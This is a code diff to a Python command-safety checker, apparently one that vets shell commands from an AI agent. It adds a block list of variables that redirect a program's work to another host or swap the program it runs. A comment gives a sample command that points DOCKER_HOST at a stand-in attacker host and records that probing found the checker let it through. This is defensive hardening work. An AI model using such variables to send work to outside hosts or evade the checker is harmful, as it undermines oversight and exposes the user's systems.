@@ -344,6 +344,12 @@ OPTION_VARS = frozenset(
     {"RIPGREP_CONFIG_PATH", "GREP_OPTIONS", "TAR_OPTIONS", "ZIPOPT", "UNZIP", "UNZIPOPT",
      "LESSOPEN", "LESSCLOSE", "RSYNC_RSH", "WGETRC", "CURL_HOME", "GNUPGHOME"}
 )  # fmt: skip
+#: Variables that send a program's work to another host or name a program it runs, when
+#: set to anything but empty: a container engine's (``DOCKER_HOST=tcp://evil.example:2375
+#: docker run ...``, found probing: allowed, the container ran there), ``AUTOSSH_PATH``
+#: (the ssh autossh runs), ``RSYNC_CONNECT_PROG`` (the command rsync connects through).
+CLIENT_VARS = frozenset({"DOCKER_HOST", "DOCKER_CONTEXT", "CONTAINER_HOST",
+                         "CONTAINER_CONNECTION", "AUTOSSH_PATH", "RSYNC_CONNECT_PROG"})  # fmt: skip
 _PLAIN_PROGRAMS = frozenset(
     {"", "true", ":", "cat", "less", "more", "head", "vi", "vim", "nano", "less -R", "less -FRX"}
 )
@@ -388,7 +394,7 @@ def risky_assignment(word: Word) -> bool:
     name = name.rstrip("+").split("[", 1)[0]
     if code_var(name) or agent_var(name):
         return True
-    if name in OPTION_VARS:
+    if name in OPTION_VARS or name in CLIENT_VARS:
         return word.dynamic or value != ""
     if name in _PROGRAM_VARS:
         return word.dynamic or value not in _PLAIN_PROGRAMS
